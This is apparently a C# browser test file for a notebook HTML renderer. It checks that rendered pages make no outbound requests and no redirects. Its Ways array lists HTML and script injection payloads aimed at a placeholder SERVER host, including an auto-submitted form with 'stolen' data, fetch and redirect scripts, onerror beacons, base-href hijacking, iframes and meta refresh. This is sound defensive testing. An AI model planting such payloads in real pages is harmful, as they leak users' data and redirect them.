using System.Net;
using System.Net.Sockets;
using System.Text.Json.Nodes;
using Vilt.Notebooks.Files;
using Vilt.Notebooks.Pages;

namespace Vilt.Notebooks.Tests.Browser;

/// <summary>A page of a notebook that wants to send what stands in it somewhere, in a real browser.</summary>
[Trait("Needs", "Browser")]
public sealed class HostilePageTests : IDisposable
{
    private const string Figure = """{"application/vnd.plotly.v1+json":{"data":[{"y":[1,2]}]}}""";

    private static readonly string[] Ways =
    [
        "<form id=\"f\" method=\"post\" action=\"SERVER/form\"><input name=\"d\" value=\"stolen\"></form>",
        "<script>setTimeout(() => document.getElementById('f').submit(), 50)</script>",
        "<script>fetch('SERVER/fetch'); location = 'SERVER/location'</script>",
        "<script nonce=\"a\" src=\"SERVER/script\"></script>",
        "<img src=\"x\" onerror=\"new Image().src = 'SERVER/onerror'\">",
        "<img src=\"SERVER/picture\">",
        "<svg onload=\"location = 'SERVER/svg'\"><script>location = 'SERVER/svg'</script></svg>",
        "<base href=\"SERVER/base/\"><img src=\"relative.png\">",
        "<link rel=\"stylesheet\" href=\"SERVER/style\"><link rel=\"preconnect\" href=\"SERVER\"><link rel=\"prefetch\" href=\"SERVER/prefetch\">",
        "<style>@import url(SERVER/import); body { background: url(SERVER/css) }</style>",
        "<iframe src=\"SERVER/frame\"></iframe><iframe srcdoc=\"<meta http-equiv=refresh content='0;url=SERVER/srcdoc'>\"></iframe>",
        "<object data=\"SERVER/object\"></object><embed src=\"SERVER/embed\"><video src=\"SERVER/video\" autoplay></video>",
        "<meta http-equiv=\"refresh\" content=\"0;url=SERVER/refresh\">",
    ];

    private readonly TestFolder folder = new();
    private readonly TcpListener server = new(IPAddress.Loopback, 0);

    public HostilePageTests() => server.Start();

    public void Dispose()
    {
        server.Dispose();
        folder.Dispose();
    }

    [Fact]
    public async Task It_sends_nothing_and_leads_nowhere_and_its_figures_are_drawn()
    {
        await using var chromium = await Chromium.StartAsync();
        var ways = string.Join('\n', Ways).Replace("SERVER", $"http://{server.LocalEndpoint}", StringComparison.Ordinal);
        var outputs = TestFolder.Code("1");
        outputs["outputs"] = new JsonArray(Output(Figure), Output(new JsonObject { ["text/html"] = ways }.ToJsonString()));
        var notebook = Notebook.Read(folder.Notebook("n.ipynb", TestFolder.Markdown(ways), outputs));
        var address = new Uri(folder.Write("n.html", await NotebookPage.RenderAsync(notebook, folder.Path))).AbsoluteUri;
        await chromium.Page.GotoAsync(address);
        await chromium.Page.WaitForFunctionAsync("document.querySelectorAll('.js-plotly-plot .main-svg').length >= 2");
        Assert.Equal(0, await chromium.Page.EvaluateAsync<int>("document.forms.length")); // Even a form that is not sent has Chromium connect.
        await chromium.Page.EvaluateAsync("new Promise(done => setTimeout(done, 1000))");
        Assert.Equal("", Received());
        Assert.Equal(address, chromium.Page.Url);
    }

    public static TheoryData<string> Reaching => [Ways[0] + Ways[1], Ways[5], Ways[10], Ways[12]];

    [Theory]
    [MemberData(nameof(Reaching))]
    public async Task Such_ways_reach_the_server_from_a_page_without_these_measures(string way)
    {
        await using var chromium = await Chromium.StartAsync();
        var html = way.Replace("SERVER", $"http://{server.LocalEndpoint}", StringComparison.Ordinal);
        var page = new Uri(folder.Write("open.html", "<!DOCTYPE html><body>" + html)).AbsoluteUri;
        await chromium.Page.GotoAsync(page, new() { WaitUntil = Microsoft.Playwright.WaitUntilState.Commit });
        using var patience = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
        patience.CancelAfter(TimeSpan.FromMinutes(5));
        using var _ = await server.AcceptTcpClientAsync(patience.Token);
    }

    /// <summary>What the first connection, if there is one, asks for.</summary>
    private string Received()
    {
        if (!server.Pending())
        {
            return "";
        }

        using var client = server.AcceptTcpClient();
        client.ReceiveTimeout = 1000;
        var bytes = new byte[1000];
        try
        {
            return "asks: " + System.Text.Encoding.UTF8.GetString(bytes, 0, client.GetStream().Read(bytes));
        }
        catch (IOException)
        {
            return "connects";
        }
    }

    private static JsonNode Output(string data) => JsonNode.Parse($$"""{"output_type":"display_data","metadata":{},"data":{{data}}}""")!;
}
